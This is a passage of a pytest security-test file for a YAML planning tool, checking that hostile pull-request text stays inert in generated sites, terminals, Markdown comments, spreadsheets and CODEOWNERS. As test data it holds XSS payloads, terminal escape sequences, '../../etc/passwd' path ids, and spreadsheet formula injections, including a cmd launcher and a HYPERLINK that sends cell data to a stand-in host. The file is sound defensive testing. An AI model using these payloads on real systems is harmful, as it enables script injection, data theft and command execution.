"""Hostile content (issue #8): a pull request is untrusted text that plancode renders to a
company site, prints to terminals, writes into spreadsheets and CODEOWNERS, and reads
from disk. Each guarantee in SECURITY.md has its test here (or names the one elsewhere).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import time
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import cmarkgfm
import openpyxl
import pytest
from click.testing import CliRunner
from cmarkgfm.cmark import Options

from conftest import STRATEGY, TEAM, PlanRepo, dedent, hostile_report_and_review
from plancode.cli import main
from plancode.problems import Severity
from plancode.workspace import UsageError
from plancode.render.charts import render_chart
from plancode.render.labels import Labels
from plancode.render.markdown import markdown_files
from plancode.render.site import chart_layout, site_files

# Every way into a page's markup we know of, and a link of every dangerous scheme.
PAYLOAD = ("<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
           "<a href='javascript:alert(4)'>x</a><iframe src=data:text/html,x></iframe>"
           "\" onmouseover=\"alert(5)\" ' onfocus='alert(6)' javascript:alert(7) "
           "data:text/html;base64,PHNjcmlwdD4= {{ 7*7 }} <!-- c -->")
# a terminal's control sequences: colour (CSI), window title (OSC ... BEL), clear screen,
# the 8-bit CSI (U+009B), and a carriage return that would overwrite the line
ANSI = "\x1b[31m\x1b]0;pwned\x07\x1b[2J\x9b1m\r"
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def h(field: str) -> str:
    """A YAML string: the field's name, then the payload (so a page shows which field)."""
    return json.dumps(f"{field} {PAYLOAD}")


def hostile_files() -> list[tuple[str, str]]:
    return [
        ("plans/team.yaml", f"""\
        kind: team
        departments:
          - {{id: marketing, name: {h("dept")}, lead: li.wei, description: {h("dept-desc")}}}
          - {{id: sales, name: {h("dept2")}}}
        people:
          - {{id: li.wei, name: {h("person")}, department: marketing, role: {h("role")}}}
          - {{id: wang.fang, name: {h("person2")}, department: sales, role: {h("role2")}}}
        """),
        ("plans/strategy.yaml", f"""\
        kind: strategy
        id: fy2024
        title: {h("strategy")}
        period: 2024
        owner: li.wei
        budget: {{total: 1000, currency: CNY, contingency: 12, allocation: {{{h("alloc")}: 40}}}}
        goals:
          - id: sales-up-30
            title: {h("goal")}
            owner: li.wei
            metric: {{name: {h("metric")}, unit: {h("unit")}, baseline: 10, target: 20}}
            due: 2024-12-31
            resources: {h("goal-resources")}
            notes: {h("goal-notes")}
            goals:
              - id: online-up-35
                title: {h("subgoal")}
                owner: wang.fang
                metric: {{name: {h("submetric")}, unit: {h("subunit")}, target: 50, direction: down}}
                due: 2024-12-31
        """),
        ("plans/ws.yaml", f"""\
        kind: workstream
        id: live
        title: {h("workstream")}
        goal: online-up-35
        owner: li.wei
        description: {h("ws-description")}
        tasks:
          - id: account
            name: {h("task")}
            owner: li.wei
            start: 2024-06-01
            end: 2024-06-10
            progress: 40
            deliverable: {h("deliverable")}
            resources: {h("resources")}
            notes: {h("task-notes")}
            metric: {{name: {h("task-metric")}, unit: {h("task-unit")}, target: 3}}
            risks: [{{risk: {h("risk")}, mitigation: {h("mitigation")}, owner: li.wei}}]
          - id: crit
            name: {h("milestone")}
            owner: wang.fang
            milestone: true
            after: [account]
            start: 2024-06-25
            end: 2024-06-25
            status: blocked
            deliverable: {h("deliverable2")}
        """),
        *hostile_report_and_review(h),
    ]


class Elements(HTMLParser):
    """A page as the browser would parse it: elements with attributes, and the text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        #: the elements inside an inline <svg> (the svg itself included), as in ``elements``
        self.in_svg: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.text: list[str] = []
        self._svg_depth = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs, closed=False):
        element = (tag, {k: v or "" for k, v in attrs})
        self.elements.append(element)
        if tag == "svg" and not closed:
            self._svg_depth += 1
        if self._svg_depth or tag == "svg":
            self.in_svg.append(element)

    def handle_endtag(self, tag):
        if tag == "svg" and self._svg_depth:
            self._svg_depth -= 1

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs, closed=True)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


#: what an inline chart may hold: shapes and text, never script, foreignObject or iframe
SVG_DRAWING = {"svg", "g", "title", "desc", "text", "tspan", "rect", "line", "polyline", "polygon", "path",
               "circle", "ellipse", "a", "defs", "marker", "clippath", "lineargradient", "stop"}
#: presentation attributes only (no on* handler, no style); the payload's own names never get here
SVG_ATTRIBUTES = {"class", "viewbox", "width", "height", "role", "aria-label", "aria-hidden", "xmlns",
                  "font-family", "font-size", "font-weight", "x", "y", "x1", "y1", "x2", "y2", "cx", "cy",
                  "r", "rx", "ry", "d", "points", "fill", "fill-opacity", "stroke", "stroke-width",
                  "stroke-dasharray", "stroke-linecap", "stroke-linejoin", "opacity", "text-anchor",
                  "dominant-baseline", "transform", "id", "href", "clip-path", "preserveaspectratio",
                  "marker-end", "markerwidth", "markerheight", "refx", "refy", "orient",
                  "data-task", "data-goal", "tabindex", "focusable"}


def workspace(repo: PlanRepo, **config):
    ws = repo.workspace(**config)
    errors = [p for p in ws.problems if p.severity == Severity.ERROR]
    assert not errors, errors
    return ws


# --- the site -----------------------------------------------------------------------------------

@pytest.fixture
def hostile_repo(repo) -> PlanRepo:
    for name, text in hostile_files():
        repo.write(name, text)
    return repo


def test_script_and_event_handlers_in_every_text_field_stay_text_on_every_page(hostile_repo):
    ws = workspace(hostile_repo, locale="zh-CN", title=f"config-title {PAYLOAD}")
    labels = Labels("zh-CN")
    charts = chart_layout(ws.plan, ws.config, labels).all()
    svgs = {c.name: render_chart(c, hostile_repo.root / ".cache") for c in charts}
    site = site_files(ws.plan, ws.config, labels, svgs)
    shown: set[str] = set()
    for path, data in site.items():
        if path.endswith(".svg"):
            for element in ElementTree.fromstring(data).iter():
                tag = element.tag.rpartition("}")[2]
                assert tag not in ("script", "foreignObject", "a", "iframe"), path
                for key, value in element.attrib.items():
                    assert not key.rpartition("}")[2].startswith("on"), (path, key)
                    if key.endswith("href"):  # its own glyphs, and the load heat map's pixels
                        assert value.startswith("#") or tag == "image" and value.startswith(
                            "data:image/png;base64,"), (path, value)
            continue
        if path == "search-index.js":  # names as JSON data: no "<" that could end a script
            assert b"<" not in data and b"\\u003cscript" in data, path
        if not path.endswith(".html"):
            continue
        page = Elements(data.decode("utf-8"))
        # the site's own scripts only, by exact name: the search box's index is data (every "<"
        # escaped), the one other script
        assert [a for t, a in page.elements if t == "script"] == [{"src": "search-index.js"},
                                                                 {"src": "static/site.js"}], path
        # charts and Gantt are drawn inline as SVG on purpose (issue #14): only drawing elements
        # there, and the plan's text in them as text only (the payload's tags never become elements)
        for tag, attrs in page.in_svg:
            assert tag in SVG_DRAWING, (path, tag, attrs)
            for key, value in attrs.items():
                assert key in SVG_ATTRIBUTES, (path, tag, key, value)
                # plan text in an attribute: only a label, whose value the browser shows as text
                assert "alert(" not in value or key == "aria-label", (path, tag, key, value)
                if key.endswith("href"):  # a link in a chart: to a place on the page or a site page
                    assert value.startswith("#") or re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._/-]*\.html(#[\w.-]*)?",
                                                                 value), (path, tag, value)
        for tag, attrs in page.elements:
            assert tag not in ("iframe", "foreignobject", "object", "embed", "base", "meta", "image", "use") or (
                tag == "meta" and set(attrs) <= {"charset", "name", "content"}), (path, tag, attrs)
            assert not [k for k in attrs if k.startswith("on")], (path, tag, attrs)
            assert not (tag == "img" and attrs.get("src") == "x"), path
            for key in ("href", "src", "action", "formaction", "srcset", "style"):
                value = attrs.get(key, "")
                assert not re.search(r"javascript:|data:|vbscript:|expression\(", value, re.I), (path, tag, attrs)
                if key in ("href", "src") and value:
                    url = urlsplit(value)
                    # a plan value never becomes a link: only pages and files of the site do
                    assert not url.scheme and not url.netloc, (path, attrs)
                    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._/-]*\.(html|css|js|svg)", url.path) or (
                        not url.path and url.fragment), (path, attrs)
        text = "".join(page.text)
        shown |= set(re.findall(r"([a-z0-9-]+) <script>alert\(1\)</script><img src=x onerror=alert\(2\)>", text))
        if path == "workstream-live.html":
            assert "{{ 7*7 }}" in text  # data is never a template
    # the payload reads as text wherever a field is shown whole
    assert {"dept", "person", "goal", "subgoal", "metric", "workstream", "task", "milestone",
            "deliverable", "risk", "planned", "reason", "adjustment", "result-key", "review", "dimension",
            "analysis", "actions", "config-title"} <= shown


def test_no_payload_runs_in_a_real_browser(hostile_repo, tmp_path, monkeypatch):
    """The hostile site built by `plancode build`, every page opened in headless Chromium
    with JavaScript on: no alert() fires, no page error, no request leaves the site."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("playwright is not installed (pip install -e '.[test]')")
    executable = shutil.which("chromium")
    if executable is None:
        if os.environ.get("CI"):
            pytest.fail("Debian's chromium is missing: .ci/run installs it")
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    hostile_repo.write("plancode.yaml", "as_of: 2024-06-15\nlocale: zh-CN\n")
    result = hostile_repo.run("build")
    assert result.exit_code == 0, result.output
    pages = sorted((hostile_repo.root / "site").glob("*.html"))
    assert len(pages) >= 8
    events: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, headless=True,
                                             args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
        context = browser.new_context()
        for path in pages:
            page = context.new_page()
            page.on("dialog", lambda dialog: (events.append(f"{path.name}: dialog {dialog.message}"),
                                              dialog.dismiss()))
            page.on("pageerror", lambda error: events.append(f"{path.name}: page error {error}"))
            page.on("request", lambda request: events.append(f"{path.name}: request {request.url}")
                    if not request.url.startswith("file://") else None)
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            page.mouse.move(200, 300)  # an onmouseover would fire now
            page.keyboard.press("Tab")  # and an onfocus
            page.wait_for_timeout(50)
            page.close()
        browser.close()
    assert events == []


def test_the_only_link_field_takes_only_http_urls(base_repo):
    """config `site.base_url` is the one value a user writes that becomes a link (in the
    pull-request comment): `javascript:` and `data:` are refused before anything runs."""
    for url in ("javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,<script>alert(1)</script>",
                " https://e.vil", "vbscript:msgbox(1)", "//e.vil/x", "https://e.vil\n",
                "https://e.vil <img src=https://e.vil/pixel.png>", "https://e.vil/[x](javascript:alert(1))",
                "https://e.vil @acme/everyone"):
        base_repo.write("plancode.yaml", f"as_of: 2024-06-15\nlocale: en\nsite: {{base_url: {json.dumps(url)}}}\n")
        result = base_repo.run("check")
        assert result.exit_code == 2, (url, result.output)
        assert "PC101" in result.output and "plancode.yaml:3:" in result.output, (url, result.output)
    base_repo.write("plancode.yaml", "as_of: 2024-06-15\nlocale: en\nsite: {base_url: 'https://plans.example.com'}\n")
    assert base_repo.run("check").exit_code == 0
    base_repo.write("plancode.yaml", "as_of: 2024-06-15\nlocale: en\n"
                                     "site: {base_url: 'https://acme.github.io/plans/?q=%E8%A8%88&v=1#top'}\n")
    assert base_repo.run("check").exit_code == 0


def test_no_plan_schema_has_a_link_field():
    """Which fields could ever become an href: none in the plans (only config's base_url)."""
    schemas = Path(__file__).resolve().parent.parent / "schema"
    for path in sorted(schemas.glob("*.schema.json")):
        text = path.read_text("utf-8")
        formats = set(re.findall(r'"format":\s*"([^"]+)"', text))
        if path.name == "config.schema.json":
            assert formats == {"uri"} and '"pattern": "^https?://[A-Za-z0-9._~:/?#%&=+,;-]+$"' in text
        else:
            assert not formats & {"uri", "uri-reference", "iri", "iri-reference", "url"}, path.name
            assert not re.search(r'"(url|href|link|website|homepage)"\s*:', text), path.name


# --- Markdown: the reports (tested in render/test_markdown.py) and the PR comment --------------

def test_the_pull_request_comment_renders_plan_text_as_text(tmp_path):
    """`plancode diff --format markdown` is posted on the pull request by the action: the
    renamed task's hostile name must not become a link, an image, a comment or a mention."""
    from plancode.commands.diff import to_markdown
    from plancode.history import load_folder
    from plancode.history import diff_snapshots

    evil = ("[x](javascript:alert(1)) ![i](https://e.vil/pixel.png) <!-- hidden --> <img src=x onerror=alert(1)> "
            "<details open><summary>s</summary> @all `code` | cell | **b** <https://e.vil> [r]: https://e.vil")
    sides = []
    for name, task in (("old", "直播腳本策劃"), ("new", evil)):
        side = PlanRepo(tmp_path / name)
        side.write("plancode.yaml", "as_of: 2024-06-15\nlocale: en\n")
        side.write("plans/team.yaml", TEAM)
        side.write("plans/strategy.yaml", STRATEGY)
        side.write("plans/ws.yaml", f"""\
            kind: workstream
            id: live
            title: 直播
            goal: online-up-35
            owner: li.wei
            tasks:
              - {{id: script, name: {json.dumps(task)}, owner: li.wei, start: 2024-06-01, end: 2024-06-10,
                 deliverable: x}}
            """)
        sides.append(side)
    config = sides[1].workspace().config
    a = load_folder(sides[0].root, config, tmp_path, label="old")
    b = load_folder(sides[1].root, config, tmp_path, label="new")
    body = to_markdown(diff_snapshots(a, b), a, b, "en")
    html = cmarkgfm.github_flavored_markdown_to_html(body, options=Options.CMARK_OPT_UNSAFE)
    page = Elements(html)
    assert page.comments == [" plancode-diff "]  # only the marker the action looks for
    for tag, attrs in page.elements:
        assert tag in {"h3", "h4", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "code", "br",
                       "details", "summary", "a"}, (tag, attrs)
        if tag == "a":  # GitHub links a bare URL in text; never a javascript: one
            assert attrs["href"].startswith("https://"), attrs
        if tag == "details":
            assert "open" not in attrs
    assert "@all" not in body and "&#64;all" in body  # no mention: nobody is paged by a plan's text
    assert "[x](javascript:alert(1))" in "".join(page.text)


# --- the terminal ---------------------------------------------------------------------------------

def _git(root: Path, *args: str, author: str = "李偉") -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": author, "GIT_AUTHOR_EMAIL": "a@example.com",
           "GIT_COMMITTER_NAME": "ci", "GIT_COMMITTER_EMAIL": "ci@example.com",
           "GIT_AUTHOR_DATE": "2024-06-01T09:00:00+08:00", "GIT_COMMITTER_DATE": "2024-06-01T09:00:00+08:00"}
    subprocess.run(["git", "-c", "init.defaultBranch=main", "-c", "commit.gpgsign=false", *args], cwd=root,
                   env=env, check=True, capture_output=True)


def as_on_a_terminal(root: Path, *args: str):
    """The CLI as a terminal sees it: click does not strip colour codes for a terminal,
    so neither does this run (color=True); stdout and stderr apart."""
    previous = os.getcwd()
    os.chdir(root)
    try:
        result = CliRunner().invoke(main, ["--locale", "en", *args], catch_exceptions=False, color=True)
    finally:
        os.chdir(previous)
    return result


def assert_no_control(result) -> None:
    both = result.stdout + result.stderr
    assert not RAW_CONTROL.findall(both), RAW_CONTROL.findall(both)
    assert "\\x1b" in both or "\\u001b" in both, both  # shown, escaped


def y(text: str) -> str:
    """A YAML double-quoted string of ``text``: control characters as escapes (a YAML file
    may not hold them raw), the rest as written."""
    quoted = json.dumps(text, ensure_ascii=False)
    return re.sub("[\x7f-\x9f\u2028\u2029]", lambda m: f"\\u{ord(m.group()):04x}", quoted)


@pytest.fixture
def ansi_repo(repo) -> PlanRepo:
    """Names full of terminal controls, in a git repository with two commits."""
    if shutil.which("git") is None:
        pytest.skip("needs the git command line")
    repo.write("plans/team.yaml", f"""\
        kind: team
        departments:
          - {{id: marketing, name: {y("市場部" + ANSI)}, lead: li.wei}}
        people:
          - {{id: li.wei, name: {y("李偉" + ANSI)}, department: marketing, role: 經理}}
        """)
    repo.write("plans/strategy.yaml", """\
        kind: strategy
        id: fy2024
        title: 2024 年度營銷策略
        period: 2024
        owner: li.wei
        goals:
          - {id: g, title: 目標, owner: li.wei, metric: {name: 額, unit: 萬元, target: 10}, due: 2024-12-31}
        """)
    workstream = f"""\
        kind: workstream
        id: live
        title: {y("直播" + ANSI)}
        goal: g
        owner: li.wei
        tasks:
          - {{id: script, name: {y("腳本" + ANSI)}, owner: li.wei, start: 2024-06-10, end: END, deliverable: x}}
        """
    repo.write("plans/ws.yaml", workstream.replace("END", "2024-06-20"))
    _git(repo.root, "init", "-q")
    _git(repo.root, "add", "-A")
    _git(repo.root, "commit", "-q", "-m", "first")
    repo.write("plans/ws.yaml", workstream.replace("END", "2024-06-25").replace("腳本", "新腳本"))
    _git(repo.root, "add", "-A")
    _git(repo.root, "commit", "-q", "-m", "slip " + ANSI.replace("\r", ""), author="Eve\x1b[31m")
    return repo


@pytest.mark.parametrize("args", [
    ("diff", "HEAD~1", "HEAD"),
    ("diff", "HEAD~1", "HEAD", "--format", "markdown"),
    ("log", "live/script"),
    ("new", "report", "--week", "2024-W25", "--department", "marketing"),
    ("codeowners",),
    ("textconv", "plans/ws.yaml"),
    ("check", "--format", "github"),
])
def test_terminal_controls_in_plan_text_never_reach_the_terminal(ansi_repo, args):
    result = as_on_a_terminal(ansi_repo.root, *args)
    assert result.exit_code == 0, result.output
    assert_no_control(result)


def test_build_prints_the_errors_of_hostile_names_escaped(ansi_repo):
    ansi_repo.write("plans/ws2.yaml", f"""\
        kind: workstream
        id: other
        title: t
        goal: g
        tasks:
          - {{id: a, name: n, owner: {y("nobody" + ANSI)}, start: 2024-06-10, end: 2024-06-20, deliverable: x}}
        """)
    result = as_on_a_terminal(ansi_repo.root, "build")
    assert result.exit_code == 1
    assert_no_control(result)


def test_log_json_and_diff_json_keep_their_values_escaped_as_json(ansi_repo):
    for args in (("log", "live/script", "--format", "json"), ("diff", "HEAD~1", "HEAD", "--format", "json")):
        result = as_on_a_terminal(ansi_repo.root, *args)
        json.loads(result.stdout)
        assert "\x1b" not in result.stdout and "\\u001b" in result.stdout


def test_the_weekly_report_skeleton_of_a_department_with_a_hostile_name_passes_check(ansi_repo):
    ansi_repo.write("plans/team.yaml", ansi_repo.root.joinpath("plans/team.yaml").read_text("utf-8").replace(
        '"市場部', '"市場部\\n\\u2028kind: evil\\u0085'))
    result = as_on_a_terminal(ansi_repo.root, "new", "report", "--week", "2024-W25", "--department", "marketing")
    assert result.exit_code == 0, result.output
    written = ansi_repo.root / "plans/2024/reports/2024-W25-marketing.yaml"
    first = written.read_text("utf-8").splitlines()[0]
    assert first.startswith("# Weekly report of 市場部 kind: evil [31m ]0;pwned [2J 1m for 2024-W25"), first
    check = as_on_a_terminal(ansi_repo.root, "check")
    assert check.exit_code == 0, check.output


def test_import_messages_quote_cells_without_their_control_characters(base_repo, tmp_path):
    (tmp_path / "gantt.csv").write_text("task,owner,start,end\n直播賬號搭建,chen.jie,2024-13-01\x1b[2J,2024-06-10\n",
                                        encoding="utf-8")
    result = as_on_a_terminal(base_repo.root, "import", str(tmp_path / "gantt.csv"), "--as", "workstream",
                              "--id", "live", "--goal", "online-up-35")
    assert result.exit_code == 1, result.output
    assert_no_control(result)
    assert "Traceback" not in result.output


def test_a_carriage_return_inside_a_csv_cell_is_read_not_a_traceback(base_repo, tmp_path):
    (tmp_path / "gantt.csv").write_text("task,owner,start,end\n直播\r賬號搭建,chen.jie,2024-06-01,2024-06-10\n",
                                        encoding="utf-8")
    result = as_on_a_terminal(base_repo.root, "import", str(tmp_path / "gantt.csv"), "--as", "workstream",
                              "--id", "live", "--goal", "online-up-35")
    assert result.exit_code == 0, result.output  # the CR ends the row, as in any CSV reader
    assert "{id: task-1, name: 直播}" in result.stdout and "name: 賬號搭建\n" in result.stdout


def test_importing_over_an_existing_workstream_warns_without_control_characters(ansi_repo, tmp_path):
    # (a lone CR in CSV ends the row, as in every CSV reader: left out here)
    name = "賬號" + ANSI.replace("\r", "")
    (tmp_path / "live.csv").write_text(f"task,owner,start,end\n{name},li.wei,2024-06-01,2024-06-10\n",
                                       encoding="utf-8")
    result = as_on_a_terminal(ansi_repo.root, "import", str(tmp_path / "live.csv"), "--as", "workstream",
                              "--id", "live", "--goal", "g")
    assert result.exit_code == 0, result.output
    assert "workstream `live` already exists in" in result.stderr
    assert not RAW_CONTROL.findall(result.stdout + result.stderr)
    assert '"賬號\\e[31m' in result.stdout  # the YAML keeps the name, escaped as YAML escapes


# --- ids become file names: only validated slugs reach the file system -----------------------------

@pytest.mark.parametrize(("where", "text"), [
    ("workstream id", "kind: workstream\nid: ../../etc\ntitle: t\ngoal: online-up-35\ntasks: []\n"),
    ("task id", "kind: workstream\nid: w\ntitle: t\ngoal: online-up-35\ntasks:\n"
                "  - {id: ../../etc/passwd, name: n, owner: li.wei, start: 2024-06-01, end: 2024-06-02, deliverable: x}\n"),
    ("workstream id with a slash", "kind: workstream\nid: a/b\ntitle: t\ngoal: online-up-35\ntasks: []\n"),
    ("id ending in a line break", 'kind: workstream\nid: "live\\n"\ntitle: t\ngoal: online-up-35\ntasks: []\n'),
    ("report week", "kind: report\nweek: ../../2024-W23\ndepartment: marketing\nentries: []\n"),
    ("report department", "kind: report\nweek: 2024-W23\ndepartment: ../../etc\nentries: []\n"),
    ("review period", "kind: review\nperiod: 2024-Q2/../../x\nowner: li.wei\nrows: []\n"),
])
def test_an_id_that_is_a_path_is_refused_by_the_schema_and_never_written(base_repo, where, text):
    base_repo.write("plans/hostile.yaml", text)
    found = base_repo.findings()
    assert ("PC101", "plans/hostile.yaml") in {(code, path) for code, path, _ in found}, (where, found)
    result = base_repo.run("build", "--out", "out/site", "--markdown", "out/reports")
    assert result.exit_code == 1
    assert not (base_repo.root / "out").exists()
    assert sorted(p.name for p in base_repo.root.iterdir()) == ["plancode.yaml", "plans"]


def test_an_id_ending_in_a_dot_is_a_file_name_like_any_other(base_repo):
    """`v2.` is a valid id; its pages are `workstream-v2..html` and `workstreams/v2..md`
    (a `..` inside a name is no path segment)."""
    base_repo.write("plans/ws.yaml", """\
        kind: workstream
        id: v2.
        title: 第二版
        goal: online-up-35
        owner: li.wei
        tasks:
          - {id: a., name: 任務, owner: li.wei, start: 2024-06-01, end: 2024-06-10, deliverable: x}
        """)
    ws = workspace(base_repo)
    labels = Labels("en")
    assert "workstream-v2..html" in site_files(ws.plan, ws.config, labels, {})
    reports = markdown_files(ws.plan, ws.config, labels, {})
    assert "workstreams/v2..md" in reports
    assert "(workstreams/v2..md)" in reports["README.md"].decode("utf-8")


# --- symbolic links and big files -------------------------------------------------------------------

SECRET_TEAM = "kind: team\npeople:\n  - {id: secret.agent, name: 秘密, department: x, role: y}\n"


def test_a_linked_file_outside_the_repository_is_reported_and_not_read(base_repo, tmp_path):
    outside = tmp_path.parent / f"{tmp_path.name}-outside.yaml"
    outside.write_text(SECRET_TEAM, encoding="utf-8")
    (base_repo.root / "plans/people.yaml").symlink_to(outside)
    result = base_repo.run("check")
    assert result.exit_code == 2  # SPEC §5.7: a link leading out is a usage error
    assert f"plans/people.yaml:1:1: PC106 error this is a symbolic link to {outside}, outside the repository" \
        in result.output
    assert "1 symbolic link under the plans lead outside the project folder: nothing was read" in result.output
    assert "secret" not in result.output and "秘密" not in result.output


def test_a_linked_folder_outside_the_repository_is_reported_and_not_followed(base_repo, tmp_path):
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (outside / "team.yaml").write_text(SECRET_TEAM, encoding="utf-8")
    (base_repo.root / "plans/shared").symlink_to(outside, target_is_directory=True)
    with pytest.raises(UsageError) as raised:
        base_repo.workspace()
    assert [(p.code, p.path, p.message) for p in raised.value.problems] == [
        ("PC106", "plans/shared", f"this is a symbolic link to {outside}, outside the repository; it is not read")]
    result = base_repo.run("check", "--format", "json")
    assert result.exit_code == 2 and "secret.agent" not in result.output


def test_a_loop_of_links_is_reported_not_a_traceback(base_repo):
    plans = base_repo.root / "plans"
    (plans / "self.yaml").symlink_to("self.yaml")
    (plans / "a.yaml").symlink_to("b.yaml")
    (plans / "b.yaml").symlink_to("a.yaml")
    (plans / "loop").symlink_to("loop", target_is_directory=True)
    result = base_repo.run("check")
    assert result.exit_code == 1, result.output
    assert re.findall(r"^(plans/\S+):1:1: PC106 error this symbolic link never reaches a file", result.output,
                      re.M) == ["plans/a.yaml", "plans/b.yaml", "plans/self.yaml"]
    assert base_repo.run("check", "plans/self.yaml").exit_code == 1  # named on the command line too


def test_links_inside_the_repository_are_read_and_an_editors_lock_file_ignored(base_repo):
    shared = base_repo.write("shared/strategy.yaml", STRATEGY)
    (base_repo.root / "plans/strategy.yaml").unlink()
    (base_repo.root / "plans/strategy.yaml").symlink_to(shared)
    (base_repo.root / "plans/.#team.yaml").symlink_to("li.wei@host.1234")  # an editor's lock file
    ws = base_repo.workspace()
    assert ws.problems == []
    assert "fy2024" in ws.plan.strategies


def test_a_link_to_a_plan_that_was_moved_is_reported(base_repo):
    """A dangling link named like a plan is almost always a plan moved or deleted under it:
    PC106, as a loop is, never skipped silently (an editor's lock file is a dot-file)."""
    (base_repo.root / "plans/2024").mkdir()
    (base_repo.root / "plans/2024/douyin-live.yaml").symlink_to("../archive/douyin-live.yaml")
    (base_repo.root / "plans/.#team.yaml").symlink_to("li.wei@host.1234")
    result = base_repo.run("check")
    assert result.exit_code == 1, result.output
    assert result.output.splitlines()[0] == (
        "plans/2024/douyin-live.yaml:1:1: PC106 error this symbolic link points to ../archive/douyin-live.yaml, "
        "a file that does not exist (moved or deleted?); it is not read")
    assert ".#team.yaml" not in result.output
    chinese = base_repo.run("--locale", "zh-CN", "check", "plans/2024/douyin-live.yaml")
    assert "这个符号链接指向的 ../archive/douyin-live.yaml 不存在(文件已移动或删除?)" in chinese.output


def test_a_50_mb_file_is_refused_without_reading_it(base_repo):
    huge = base_repo.root / "plans/huge.yaml"
    with huge.open("wb") as handle:
        handle.write(b"kind: team\npeople:\n")
        handle.seek(50 * 1024 * 1024)
        handle.write(b"  - {id: x}\n")
    tracemalloc.start()
    started = time.perf_counter()
    ws = base_repo.workspace()
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [(p.code, p.path, p.line) for p in ws.problems] == [("PC106", "plans/huge.yaml", 1)]
    assert "52,428,812" in ws.problems[0].message or "52428812" in ws.problems[0].message
    assert peak < 8 * 1024 * 1024, peak  # the file is never held in memory
    assert elapsed < 2, elapsed
    result = base_repo.run("check")
    assert result.exit_code == 1 and "max_file_bytes" in result.output
# Deep nesting (10,000 and 100,000 levels) and alias bombs are refused by the loader:
# test_loader.py::test_deep_nesting_is_refused_before_the_parser_recurses,
# ::test_an_alias_bomb_is_refused_quickly_in_bounded_memory, ::test_a_recursive_alias_is_refused.


# --- spreadsheets and CODEOWNERS -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://e.vil/?"&A1,"點我")', "=cmd|' /C calc'!A0", "=1+1"]


def test_exported_text_that_looks_like_a_formula_stays_text(base_repo, tmp_path):
    tasks = "".join(f"  - {{id: t{i}, name: {json.dumps(name)}, owner: li.wei, start: 2024-06-01, "
                    f"end: 2024-06-10, deliverable: {json.dumps(name)}}}\n" for i, name in enumerate(FORMULAS))
    base_repo.write("plans/ws.yaml", "kind: workstream\nid: live\ntitle: '=SUM(1,2)'\ngoal: online-up-35\n"
                                     "owner: li.wei\ntasks:\n" + tasks + f"  - {{id: ctl, name: {y('含' + ANSI)}, "
                                     "owner: li.wei, start: 2024-06-01, end: 2024-06-10, deliverable: x}\n")
    result = base_repo.run("export", "--format", "xlsx", "--output", "plans.xlsx")
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(base_repo.root / "plans.xlsx")["live"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "=SUM(1,2)" in values and all(f in values for f in FORMULAS)
    # a workbook holds no C0 control character: they are left out, the rest of the name stays
    assert [v.rstrip() for v in values if str(v).startswith("含")] == ["含[31m]0;pwned[2J\x9b1m"]
    # and back: the names are the text they were
    imported = base_repo.run("import", "plans.xlsx", "--as", "workstream", "--id", "again", "--goal",
                             "online-up-35")
    assert imported.exit_code == 0, imported.output
    for name in FORMULAS:
        assert json.dumps(name)[1:-1].replace('\\"', '"') in imported.stdout or name in imported.stdout


def test_a_file_name_with_a_line_break_cannot_add_a_codeowners_rule(repo):
    repo.write("plans/team.yaml", TEAM.replace("role: 經理}", "role: 經理, github: liwei}"))
    repo.write("plans/strategy.yaml", STRATEGY)
    repo.write("plans/x\n*\t@evil\n.yaml", dedent("""\
        kind: workstream
        id: live
        title: 直播
        goal: online-up-35
        owner: li.wei
        tasks: []
        """))
    result = repo.run("codeowners")
    assert result.exit_code == 0, result.output
    rules = [line for line in result.stdout.splitlines() if line and not line.startswith("#")]
    assert all(line.startswith("/") for line in rules), rules
    # its name, with the control characters shown as `?`, would be a wildcard rule: none
    assert "# /plans/x?*?@evil?.yaml: no rule (its name holds a wildcard character)" in result.stdout
    assert not [line for line in rules if "evil" in line]


def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(base_repo):
    """OWASP's advice for CSV: a cell starting with = + - @ (or a tab or carriage return)
    gets a leading `'`, so Excel and WPS show the text instead of running it; numbers,
    negative ones too, stay numbers."""
    names = FORMULAS + ["+1+1", "-2+3", "@SUM(1)", "\tTAB"]
    tasks = "".join(f"  - {{id: t{i}, name: {json.dumps(name)}, owner: li.wei, start: 2024-06-01, "
                    f"end: 2024-06-10, deliverable: x}}\n" for i, name in enumerate(names))
    base_repo.write("plans/ws.yaml", "kind: workstream\nid: live\ntitle: '=SUM(1,2)'\ngoal: online-up-35\n"
                                     "owner: li.wei\ntasks:\n" + tasks
                    + "  - {id: plain, name: 普通任務, owner: li.wei, start: 2024-07-01, end: 2024-07-10, "
                      "deliverable: x, progress: 50}\n")
    result = base_repo.run("export", "--format", "csv")
    assert result.exit_code == 0, result.output
